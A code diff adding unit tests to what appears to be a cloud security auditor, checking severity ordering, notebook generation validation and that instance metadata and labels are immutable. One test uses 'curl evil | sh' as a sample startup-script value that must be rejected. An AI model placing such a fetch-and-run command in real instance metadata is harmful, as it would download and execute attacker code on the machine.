@@ -58,3 +58,42 @@ def test_unresolved_reads_as_its_shape_or_origin_never_internals() -> None:
     assert str(Unresolved("x", origin="google_service_account.a.email", shape="a@{var.p}.iam.gserviceaccount.com")) == (
         "a@{var.p}.iam.gserviceaccount.com"
     )
+
+
+def test_severity_is_ordered() -> None:
+    from auditor.model import Severity
+
+    assert Severity.INFO < Severity.LOW < Severity.MEDIUM < Severity.HIGH < Severity.CRITICAL
+    assert max([Severity.LOW, Severity.CRITICAL, Severity.MEDIUM]) is Severity.CRITICAL
+    assert sorted([Severity.HIGH, Severity.INFO]) == [Severity.INFO, Severity.HIGH]
+    assert Severity.HIGH >= Severity.HIGH and not Severity.LOW >= Severity.MEDIUM
+
+
+def test_generation_is_an_enum_and_a_bad_one_is_refused() -> None:
+    import pytest
+
+    from auditor.model import Generation, Location, NotebookInstance, ScopeKind
+
+    instance = NotebookInstance("nb", "p", "z", "v1", "a", Location("x"))
+    assert instance.generation is Generation.V1 and instance.generation.scope_kind is ScopeKind.NOTEBOOK_INSTANCE
+    assert Generation.V2.scope_kind is ScopeKind.WORKBENCH_INSTANCE and f"{Generation.V2}" == "v2"
+    with pytest.raises(ValueError, match="v3"):
+        NotebookInstance("nb", "p", "z", "v3", "a", Location("x"))  # type: ignore[arg-type]
+
+
+def test_frozen_mappings_are_really_immutable() -> None:
+    import pytest
+
+    from auditor.model import ComputeInstance, Location, NotebookInstance
+
+    metadata = {"notebook-disable-root": "true"}
+    instance = NotebookInstance("nb", "p", "z", "v2", "a", Location("x"), metadata=metadata, labels={"team": "ml"})
+    metadata["notebook-disable-root"] = "false"  # the caller's dict is not the instance's
+    assert instance.metadata["notebook-disable-root"] == "true"
+    with pytest.raises(TypeError):
+        instance.metadata["startup-script"] = "curl evil | sh"  # type: ignore[index]
+    with pytest.raises(TypeError):
+        instance.labels["team"] = "x"  # type: ignore[index]
+    vm = ComputeInstance("vm", "p", "z", "a", Location("x"), metadata={"k": "v"})
+    with pytest.raises(TypeError):
+        vm.metadata["k"] = "w"  # type: ignore[index]
